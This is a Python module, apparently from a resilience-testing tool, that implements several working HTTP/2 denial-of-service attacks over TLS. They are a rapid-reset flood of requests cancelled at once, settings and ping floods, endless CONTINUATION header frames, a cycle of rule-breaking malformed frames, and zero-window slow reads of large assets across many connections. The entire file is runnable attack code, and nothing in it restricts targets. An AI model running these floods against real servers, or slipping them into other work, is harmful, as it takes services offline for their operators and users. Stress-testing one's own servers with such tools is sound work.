"""Attacks by frames of HTTP/2, over TLS."""

import asyncio
import itertools

from wire import again_and_again, counts, discard, portions

DATA, HEADERS, RESET, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
GOAWAY_HEAD = b"\x07\x00\x00\x00\x00\x00"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags=0, stream=0, payload=b""):
    """A frame of HTTP/2."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def field(name, value):
    """A header that is not indexed; short names and values only."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def head(target, method=b"\x82", path=b"/healthz"):
    """The compressed head of a request; the method is an entry of the static table."""
    host = target.host.encode()
    return method + b"\x87" + b"\x04" + bytes([len(path)]) + path + b"\x01" + bytes([len(host)]) + host


async def session(target, settings=b""):
    """An open connection after the preface."""
    reader, writer = await target.connect(tls="h2")
    if writer.get_extra_info("ssl_object").selected_alpn_protocol() != "h2":
        counts["wrong: no HTTP/2"] += 1
        raise OSError("the server does not speak HTTP/2")
    writer.write(PREFACE + frame(SETTINGS, payload=settings))
    return reader, writer


async def flood(target, rate, frames, connections=5, reads=True):
    """Sends what `frames(stream)` returns so many times a second, with a new stream for each."""

    async def once():
        reader, writer = await session(target)
        reading = asyncio.create_task(discard(reader, {"closed with GOAWAY": GOAWAY_HEAD})) if reads else None
        streams = itertools.count(1, 2)
        try:
            async for count in portions(rate / connections):
                if reading and reading.done():
                    counts["closed by the server"] += 1
                    return
                writer.write(b"".join(frames(next(streams)) for _ in range(count)))
                counts["asked"] += count
                await asyncio.wait_for(writer.drain(), 10)
        finally:
            if reading:
                reading.cancel()
            writer.transport.abort()

    await again_and_again(once, connections)


async def rapid_reset(target):
    """5,000 requests a second that are cancelled at once."""
    request = head(target)
    cancel = (8).to_bytes(4, "big")

    def both(stream):
        return frame(HEADERS, END_HEADERS | END_STREAM, stream, request) + frame(RESET, 0, stream, cancel)

    await flood(target, 5_000, both)


async def settings_and_pings(target):
    """10,000 settings and 10,000 pings a second, whose acknowledgements are not read."""
    both = frame(SETTINGS, payload=b"\0\3\0\0\0\x64") + frame(PING, payload=b"x" * 8)
    await flood(target, 10_000, lambda _: both, reads=False)


async def endless_heads(target):
    """Heads that go on for ever, in 2,000 frames of 1 KB a second and in empty ones."""
    filler = field(b"x", b"y" * 120) * 8
    pieces = frame(CONTINUATION, 0, 1, filler) + frame(CONTINUATION, 0, 1)

    def next_piece(stream):
        return frame(HEADERS, 0, 1, head(target)) + pieces if stream == 1 else pieces

    await flood(target, 2_000, next_piece)


async def odd_frames(target):
    """2,000 frames a second that break the rules: each ends its connection, and a new one begins."""
    odd = itertools.cycle([
        frame(DATA, 0, 0, b"x"), frame(WINDOW, 0, 0, bytes(4)), frame(SETTINGS, 0, 0, b"x"),
        frame(HEADERS, END_HEADERS, 2, head(target)), frame(CONTINUATION, 0, 1), frame(PING, 0, 0, b"x"),
        b"\xff\xff\xff\x00\x00\x00\x00\x00\x01" + b"x" * 20_000, frame(HEADERS, END_HEADERS, 1, b"\xff" * 200),
        frame(WINDOW, 0, 0, b"\x7f\xff\xff\xff") * 2, frame(14, 0, 1, b"x" * 100), frame(DATA, 0, 99, b"x" * 1000),
    ])
    await flood(target, 2_000, lambda _: next(odd), connections=20)


async def closed_windows(target):
    """50 connections that ask for a hundred large answers each, and let in a byte at a time."""
    request = head(target, path=b"/graphql/assets/graphiql.js")

    async def once():
        reader, writer = await session(target, settings=b"\0\4\0\0\0\0")
        reading = asyncio.create_task(discard(reader))
        try:
            for stream in range(1, 201, 2):
                writer.write(frame(HEADERS, END_HEADERS | END_STREAM, stream, request))
                counts["asked"] += 1
            for _ in range(50):
                await asyncio.sleep(0.5)
                if reading.done():
                    return
                writer.write(b"".join(frame(WINDOW, 0, stream, b"\0\0\0\1") for stream in range(1, 201, 2)))
        finally:
            reading.cancel()
            writer.transport.abort()

    await again_and_again(once, 50)
